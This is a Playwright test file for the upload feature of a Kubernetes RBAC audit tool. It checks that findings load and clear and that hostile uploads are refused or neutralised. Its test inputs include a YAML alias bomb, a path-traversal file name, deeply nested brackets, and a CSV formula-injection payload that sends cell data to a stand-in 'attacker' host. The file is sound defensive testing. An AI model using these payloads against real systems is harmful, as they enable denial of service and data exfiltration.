import { expect, test } from '@playwright/test';
import { fixturePath, startApp, type AppServer } from './fixtures/app-server';

test.describe('offline audits: uploading dumps', () => {
  let app: AppServer;
  test.beforeAll(async () => {
    app = await startApp({ RBAC_SOURCE: 'demo' });
  });
  test.afterAll(() => app.stop());

  test('explores an upload like a cluster, reports bad files, and clears', async ({ page }) => {
    const errors: string[] = [];
    page.on('pageerror', (e) => errors.push(e.message));
    await page.goto(`${app.url}/upload`);
    await page
      .getByTestId('file-input')
      .setInputFiles([
        fixturePath('dumps', 'risky.yaml'),
        fixturePath('dumps', 'inventory.yaml'),
        fixturePath('dumps', 'malformed.yaml'),
      ]);
    const result = page.getByTestId('upload-result');
    await expect(result).toContainText('Loaded');
    // The bad file is named with its line; the good files still load.
    await expect(page.getByTestId('upload-errors')).toContainText(/malformed\.yaml:1[3-5]: /);
    await expect(page.getByTestId('source')).toContainText('upload');
    await expect(page.getByTestId('source-banner')).toContainText(
      'Uploaded dump: risky.yaml, inventory.yaml, malformed.yaml',
    );

    await page.goto(`${app.url}/findings`);
    // get on every resource includes nodes/proxy: the worst of it comes first.
    await expect(page.getByTestId('finding').first()).toContainText(
      'ServiceAccount ops/backup can use nodes/proxy cluster-wide.',
    );
    await expect(
      page
        .getByTestId('finding')
        .filter({ hasText: 'ServiceAccount ops/backup can read secrets cluster-wide.' }),
    ).toHaveCount(1);
    await page.goto(app.url);
    await expect(page.getByTestId('subjects-ServiceAccount')).toContainText('inventory-api');
    await expect(page.getByTestId('subjects-ServiceAccount')).not.toContainText('myapp1');

    await page.getByRole('button', { name: 'Clear upload' }).click();
    await expect(page.getByTestId('source')).toContainText('Demo cluster');
    await expect(page.getByTestId('subjects-ServiceAccount')).toContainText('myapp1');
    expect(errors).toEqual([]);
  });

  test('refuses oversized and hostile uploads with clear messages, and keeps serving', async ({
    request,
  }) => {
    const big = Buffer.alloc(51 * 1024 * 1024, 'a');
    const tooBig = await request.post(`${app.url}/api/upload`, {
      multipart: { files: { name: 'huge.yaml', mimeType: 'application/yaml', buffer: big } },
    });
    expect(tooBig.status()).toBe(413);
    const tooBigError = (await tooBig.json()).error as string;
    expect(tooBigError).toMatch(
      /^the upload is 51\.1 MB \([\d,]+ bytes\), over the 50 MB limit \(52,428,800 bytes\)/,
    );
    // Each upload replaces the last, so splitting cannot help: it is not advised.
    expect(tooBigError).not.toMatch(/split/i);

    let bomb = 'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n';
    for (let i = 1; i < 9; i++)
      bomb += `${'abcdefghij'[i]}: &${'abcdefghij'[i]} [${Array(9)
        .fill(`*${'abcdefghij'[i - 1]}`)
        .join(',')}]\n`;
    const hostile = await request.post(`${app.url}/api/upload`, {
      multipart: {
        files: {
          name: '../../etc/bomb.yaml',
          mimeType: 'application/yaml',
          buffer: Buffer.from(`kind: Role\n${bomb}`),
        },
      },
    });
    expect(hostile.status()).toBe(400);
    const body = await hostile.json();
    expect(body.error).toBe('no RBAC objects could be read from the upload');
    expect(body.errors[0].text).toMatch(/^bomb\.yaml:\d+: .*alias/i);

    const deep = await request.post(`${app.url}/api/upload`, {
      multipart: {
        files: {
          name: 'deep.yaml',
          mimeType: 'application/yaml',
          buffer: Buffer.from(`kind: Role\nx: ${'['.repeat(50_000)}${']'.repeat(50_000)}\n`),
        },
      },
    });
    expect(deep.status()).toBe(400);
    expect((await deep.json()).errors[0].text).toMatch(/nested deeper/);

    const none = await request.post(`${app.url}/api/upload`, { multipart: { note: 'no files' } });
    expect(none.status()).toBe(400);

    const health = await request.get(`${app.url}/api/health`);
    expect(health.status()).toBe(200);
    expect((await health.json()).source.kind).toBe('demo');
  });

  test('a dump saved as UTF-16 (PowerShell >) is refused with "save the file as UTF-8"', async ({
    page,
    request,
  }) => {
    const yaml =
      'apiVersion: v1\nkind: ServiceAccount\nmetadata:\n  name: a\n  namespace: default\n';
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(yaml, 'utf16le')]);
    const res = await request.post(`${app.url}/api/upload`, {
      multipart: { files: { name: 'rbac.yaml', mimeType: 'application/yaml', buffer: utf16 } },
    });
    expect(res.status()).toBe(400);
    const body = await res.json();
    expect(body.errors.map((e: { text: string }) => e.text)).toEqual([
      expect.stringMatching(/^rbac\.yaml: the file is UTF-16.*save the file as UTF-8$/),
    ]);

    await page.goto(`${app.url}/upload`);
    await page
      .getByTestId('file-input')
      .setInputFiles({ name: 'powershell.yaml', mimeType: 'application/yaml', buffer: utf16 });
    await expect(page.getByTestId('upload-errors')).toContainText(
      'powershell.yaml: the file is UTF-16',
    );
    await expect(page.getByTestId('upload-errors')).toContainText('save the file as UTF-8');
    await expect(page.getByTestId('upload-errors')).not.toContainText('Kubernetes object');
    await expect(page.getByTestId('source')).toContainText('Demo cluster');
  });

  test('a subject name that is a spreadsheet formula is exported as text', async ({ request }) => {
    const name = '=HYPERLINK("http://attacker/?"&A1,"open")';
    const dump = [
      'apiVersion: rbac.authorization.k8s.io/v1',
      'kind: ClusterRole',
      'metadata: {name: secret-reader}',
      'rules: [{apiGroups: [""], resources: [secrets], verbs: [get]}]',
      '---',
      'apiVersion: rbac.authorization.k8s.io/v1',
      'kind: ClusterRoleBinding',
      'metadata: {name: formula}',
      'roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: secret-reader}',
      `subjects: [{kind: User, apiGroup: rbac.authorization.k8s.io, name: '${name}'}]`,
      '',
    ].join('\n');
    const up = await request.post(`${app.url}/api/upload`, {
      multipart: {
        files: { name: 'formula.yaml', mimeType: 'application/yaml', buffer: Buffer.from(dump) },
      },
    });
    expect(up.status()).toBe(200);
    try {
      const csv = await (
        await request.get(`${app.url}/api/findings?format=csv&rule=read-secrets`)
      ).text();
      const row = csv.split('\r\n')[1]!;
      expect(row).toContain(`,"'=HYPERLINK(""http://attacker/?""&A1,""open"")",`);
      expect(row).not.toMatch(/,"?=HYPERLINK/);
    } finally {
      await request.delete(`${app.url}/api/upload`);
    }
  });
});
